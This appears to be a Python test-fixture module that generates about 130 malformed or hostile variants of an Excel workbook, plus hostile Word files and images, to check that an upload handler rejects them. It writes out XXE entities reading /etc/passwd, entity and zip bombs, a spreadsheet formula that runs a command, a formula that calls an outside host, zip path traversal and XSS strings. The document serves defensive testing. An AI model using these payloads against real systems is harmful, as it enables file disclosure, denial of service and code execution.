"""Attacks on a workbook that is good otherwise, hostile Word documents and hostile pictures.

``attacks_on`` takes any workbook that a door would take and gives it back in some 130 bad ways;
names that begin with ``!`` must be refused, the others may also be read without harm.
"""

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image

from .office_files import HEAD, docx, docx_members, pack

DTD = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
BOMB = "<!DOCTYPE x [" + "".join(
    f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(9)
) + "]>"  # fmt: skip
OUTSIDE = "http://192.0.2.1/x"


def members_of(content: bytes) -> dict[str, bytes]:
    """The parts of a package by name."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        return {name: package.read(name) for name in package.namelist()}


def _after_head(text: bytes, more: str) -> bytes:
    """A piece put in front of the root element."""
    if text.startswith(b"<?xml"):
        head, _end, body = text.partition(b"?>")
        return head + b"?>" + more.encode() + body
    return HEAD.encode() + more.encode() + text


def _in_root(text: bytes, more: bytes) -> bytes:
    """A piece put in front of the end of the root element."""
    at = text.rfind(b"</")
    return text[:at] + more + text[at:] if at > 0 else text + more


XML_ATTACKS: dict[str, Callable[[bytes], bytes]] = {
    "!outside entity": lambda text: _after_head(text, DTD),
    "!billion laughs": lambda text: _in_root(_after_head(text, BOMB), b"<x>&a8;</x>"),
    "!parameter entity": lambda text: _after_head(
        text, f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{OUTSIDE}"> %p;]>'
    ),
    "!utf-16": lambda text: text.decode("utf-8", "replace").encode("utf-16"),
    "!cut": lambda text: text[: len(text) // 2],
    "!noise": lambda _text: bytes(range(256)) * 8,
    "!empty": lambda _text: b"",
    "!nul": lambda text: _in_root(text, b"\x00"),
    "!half a character": lambda text: _in_root(text, b"<x>\xe4\xb8</x>"),
    "!unknown entity": lambda text: _in_root(text, b"<x>&nbsp;</x>"),
    "deep": lambda text: _in_root(text, b"<a>" * 30_000 + b"</a>" * 30_000),
    "include": lambda text: _in_root(
        text, b'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'
    ),
    "long attribute": lambda text: _in_root(text, b'<x a="' + b"x" * 2_000_000 + b'"/>'),
    "many attributes": lambda text: _in_root(
        text, b"<x " + b" ".join(b'a%d="1"' % n for n in range(20_000)) + b"/>"
    ),
    "comments": lambda text: _in_root(text, b"<!--" + b"x" * 1_000_000 + b"-->"),
    "instruction": lambda text: _in_root(text, b"<?php system('id') ?>"),
}


def _in_sheet(text: bytes, more: str, *, before: str = "</sheetData>") -> bytes:
    """A piece put before a tag of a sheet, whatever prefix it has."""
    return text.replace(before.encode(), more.encode() + before.encode(), 1)


def _end_of_sheet(more: str) -> Callable[[bytes], bytes]:
    return lambda text: _in_root(text, more.encode())


def _rows(more: str) -> Callable[[bytes], bytes]:
    return lambda text: _in_sheet(text, more)


SHEET_ATTACKS: dict[str, Callable[[bytes], bytes]] = {
    "!row far down": _rows('<row r="1048576"><c r="A1048576"><v>1</v></c></row>'),
    "!cell far right": _rows('<row r="6000"><c r="XFD6000"><v>1</v></c></row>'),
    "!row number too large": _rows('<row r="99999999999"><c r="A1"><v>1</v></c></row>'),
    "!row number no number": _rows('<row r="x"><c r="A1"><v>1</v></c></row>'),
    "!row backwards": _rows('<row r="1"><c r="A1"><v>1</v></c></row>'),
    "!shared text that is not there": _rows(
        '<row r="5900"><c r="A5900" t="s"><v>9e9</v></c></row>'
    ),
    "!merge of the whole sheet": _end_of_sheet(
        '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    ),
    "!merge of nonsense": _end_of_sheet('<mergeCells><mergeCell ref="drop table"/></mergeCells>'),
    "!6,000 merges": _end_of_sheet(
        "<mergeCells>"
        + "".join(f'<mergeCell ref="Z{n}:AA{n}"/>' for n in range(5000, 11_000))
        + "</mergeCells>"
    ),
    "!300,000 cells": _rows(
        "".join(f'<row r="{n}">' + "<c><v>1</v></c>" * 200 + "</row>" for n in range(4000, 5500))
    ),
    "odd cell types": _rows(
        '<row r="5901"><c r="A5901" t="b"><v>2</v></c><c r="B5901" t="d"><v>x</v></c>'
        '<c r="C5901" t="e"><v>#REF!</v></c><c r="D5901" t="inlineStr"><is><t>x</t></is></c></row>'
    ),
    "infinite numbers": _rows(
        '<row r="5902"><c r="A5902"><v>1e999</v></c><c r="B5902"><v>NaN</v></c></row>'
    ),
    "number of 30,000 digits": _rows(f'<row r="5903"><c r="A5903"><v>{"9" * 30_000}</v></c></row>'),
    "formula that asks outside": _rows(
        f'<row r="5904"><c r="A5904"><f>WEBSERVICE("{OUTSIDE}")</f><v>1</v></c></row>'
    ),
    "formula that runs": _rows(
        '<row r="5905"><c r="A5905"><f>cmd|\'/c calc\'!A0</f><v>1</v></c></row>'
    ),
    "formula over everything": _rows(
        '<row r="5906"><c r="A5906"><f t="array" ref="A1:XFD1048576">1</f><v>1</v></c></row>'
    ),
    "style that is not there": _rows('<row r="5907"><c r="A5907" s="99999"><v>1</v></c></row>'),
    "outside link": _end_of_sheet('<hyperlinks><hyperlink ref="A1" location="x"/></hyperlinks>'),
    "20,000 rules": _end_of_sheet(
        "<dataValidations>"
        + '<dataValidation type="list" sqref="A1"><formula1>1</formula1></dataValidation>' * 20_000
        + "</dataValidations>"
    ),
    "20,000 formats": _end_of_sheet(
        '<conditionalFormatting sqref="A1"><cfRule type="expression"><formula>1</formula></cfRule>'
        "</conditionalFormatting>" * 20_000
    ),
    "false dimension": lambda text: text.replace(
        b"<sheetData", b'<dimension ref="A1:XFD1048576"/><sheetData', 1
    ),
    "wide columns": lambda text: text.replace(
        b"<sheetData", b'<cols><col min="1" max="16384" hidden="1"/></cols><sheetData', 1
    ),
}


def _zip_attacks(content: bytes) -> dict[str, bytes]:
    members = members_of(content)
    end, first = content.rfind(b"PK\x05\x06"), content.find(b"PK\x01\x02")

    def poked(at: int, form: str, value: int) -> bytes:
        changed = bytearray(content)
        struct.pack_into(form, changed, at, value)
        return bytes(changed)

    def packed(more: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
        return pack({**members, **more}, method=method)

    def twice() -> bytes:
        out = io.BytesIO(content)
        with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as package:
            warnings.simplefilter("ignore")
            package.writestr("xl/workbook.xml", members["xl/workbook.xml"])
        return out.getvalue()

    return {
        "!members counted wrong": poked(end + 10, "<H", 60_000),
        "!directory far away": poked(end + 16, "<L", 0xFFFFFFF0),
        "!directory too large": poked(end + 12, "<L", 0x7FFFFFFF),
        "!many disks": poked(end + 4, "<H", 7),
        "!locked": poked(first + 8, "<H", 1),
        "!unknown method": poked(first + 10, "<H", 99),
        "!wrong sum": poked(first + 16, "<L", 1),
        "!wrong size": poked(first + 24, "<L", 5),
        "!begins elsewhere": poked(first + 42, "<L", 77),
        "!cut in the middle": content[: len(content) // 2],
        "!cut at the end": content[:-30],
        "!program in front": b"MZ\x90\x00" + content,
        "!page behind": content + b"<script>alert(1)</script>",
        "!member twice": twice(),
        "!path out": packed({"../../fw_pwned": b"x"}),
        "!absolute path": packed({"/etc/fw_pwned": b"x"}),
        "!macros": packed({"xl/vbaProject.bin": b"x"}),
        "!program inside": packed({"xl/media/run.exe": b"MZ"}),
        "!page inside": packed({"xl/media/x.html": b"<script>"}),
        "!zip inside the limit of members": packed(
            {f"xl/m/{n}.xml": b"<a/>" for n in range(3_000)}
        ),
        "!bomb beside": packed({"xl/theme/bomb.xml": b"<a>" + b" " * 70_000_000}),
        "!bzip2": pack(members, method=zipfile.ZIP_BZIP2),
        "!lzma": pack(members, method=zipfile.ZIP_LZMA),
        "stored": pack(members, method=zipfile.ZIP_STORED),
        "!no types": pack({k: v for k, v in members.items() if k != "[Content_Types].xml"}),
        "!no workbook": pack({k: v for k, v in members.items() if k != "xl/workbook.xml"}),
        "external book": packed(
            {"xl/externalLinks/externalLink1.xml": f"<x>{OUTSIDE}</x>".encode()}
        ),
        "picture that is none": packed({"xl/media/image1.png": b"\x89PNG" + bytes(9)}),
        "long comment": poked(end + 20, "<H", 60_000) + b"x" * 60_000,
    }


def attacks_on(content: bytes) -> dict[str, bytes]:
    """The workbook in bad ways, by name."""
    members = members_of(content)
    sheets = sorted(name for name in members if name.startswith("xl/worksheets/sheet"))
    parts = ["[Content_Types].xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", sheets[0]]
    parts += [name for name in ("xl/styles.xml", "xl/sharedStrings.xml") if name in members]
    found = _zip_attacks(content)
    for part in parts:
        for name, attack in XML_ATTACKS.items():
            wrong = pack({**members, part: attack(members[part])})
            kept = name[1:] if part == "xl/styles.xml" and name in LOOSE else name
            found[f"{kept} · {part.rpartition('/')[2]}"] = wrong
    for name, attack in SHEET_ATTACKS.items():
        found[name] = pack({**members, sheets[0]: attack(members[sheets[0]])})
    return found


LOOSE = {"!cut", "!noise", "!empty", "!nul", "!half a character", "!unknown entity", "!utf-16"}


def hostile_documents() -> dict[str, bytes]:
    """Word documents that no door may take."""
    members = docx_members()
    main = members["word/document.xml"].encode()

    def with_main(text: bytes) -> bytes:
        return pack({**members, "word/document.xml": text})

    found = {
        f"{name[1:]} · document": with_main(attack(main))
        for name, attack in XML_ATTACKS.items()
        if name in ("!outside entity", "!billion laughs", "!parameter entity", "!utf-16", "!cut",
                    "!nul", "!half a character", "!unknown entity")
    }  # fmt: skip
    whole = docx()
    found |= {
        "macros": pack({**members, "word/vbaProject.bin": b"x"}),
        "program": pack({**members, "word/media/x.exe": b"MZ"}),
        "object": pack({**members, "word/embeddings/oleObject1.bin": b"x"}),
        "path out": pack({**members, "../fw_pwned": b"x"}),
        "bomb": with_main(b"<d>" + b" " * 70_000_000 + b"</d>"),
        "something behind": whole + b"MZ",
        "something in front": b"MZ" + whole,
        "half": whole[: len(whole) // 2],
        "old doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(900),
        "rtf": b"{\\rtf1{\\object\\objdata 0105}}",
        "no types": pack({k: v for k, v in members.items() if "Types" not in k}),
    }
    return found


def _png(width: int, height: int, data: bytes = b"", extra: bytes = b"") -> bytes:
    """A PNG that says it has this size, whatever it holds."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">L", len(body)) + kind + body + struct.pack(">L", zlib.crc32(kind + body))
        )

    head = struct.pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + extra
        + chunk(b"IDAT", data or zlib.compress(b"")) + chunk(b"IEND", b"")
    )  # fmt: skip


def hostile_pictures() -> dict[str, bytes]:
    """Pictures that no door may keep."""
    good = io.BytesIO()
    Image.new("RGB", (60, 40), "navy").save(good, "JPEG")
    jpeg, out = good.getvalue(), {}
    for size in ((60_000, 60_000), (1, 2**31 - 1), (2**31 - 1, 1), (0, 0), (30_000, 2_000)):
        out[f"{size[0]} by {size[1]}.png"] = _png(*size)
    out["bomb.png"] = _png(20_000, 20_000, zlib.compress(bytes(60_001) * 2_000, 9))
    frame = bytearray(jpeg)
    at = frame.find(b"\xff\xc0")
    struct.pack_into(">HH", frame, at + 5, 65_500, 65_500)
    out["65,500 by 65,500.jpg"] = bytes(frame)
    out["no size.jpg"] = jpeg[: at + 4]
    out["head alone.jpg"] = jpeg[:20]
    out["cut.webp"] = b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(10)
    out["bad webp.webp"] = b"RIFF\xff\xff\xff\x7fWEBPVP8L" + bytes(30)
    for name, start in {
        "gif": b"GIF89a" + bytes(40), "bmp": b"BM" + bytes(60), "tif": b"II*\x00" + bytes(60),
        "ico": b"\x00\x00\x01\x00" + bytes(40), "psd": b"8BPS\x00\x01" + bytes(60),
        "heic": b"\x00\x00\x00\x18ftypheic" + bytes(60), "jp2": b"\x00\x00\x00\x0cjP  " + bytes(60),
        "avif": b"\x00\x00\x00\x18ftypavif" + bytes(60), "pcx": b"\x0a\x05\x01\x08" + bytes(130),
        "wmf": b"\xd7\xcd\xc6\x9a" + bytes(60), "emf": b"\x01\x00\x00\x00" + bytes(80),
        "dds": b"DDS " + bytes(130), "tga": bytes(2) + b"\x02" + bytes(60),
        "xbm": b"#define x_width 9",
        "ppm": b"P6 60000 60000 255\n", "fli": b"\x00\x01\x00\x00\x12\xaf" + bytes(130),
        "icns": b"icns\x00\x00\x00\x40" + bytes(60), "mpo": b"\xff\xd8\xff\xe2MPF" + bytes(40),
        "svgz": b"\x1f\x8b\x08" + bytes(40), "ps": b"%!PS\n(x) run",
        "eps": b"\xc5\xd0\xd3\xc6" + bytes(40),
        "pdf": b"%PDF-1.7\n%%EOF", "html": b"<html><img src=x onerror=alert(1)>",
        "exe": b"MZ" + bytes(60),
        "zip": pack({"a.jpg": b"x"}), "txt": "照片".encode(),
    }.items():  # fmt: skip
        out[f"called a photo, is {name}.jpg"] = start
    return out
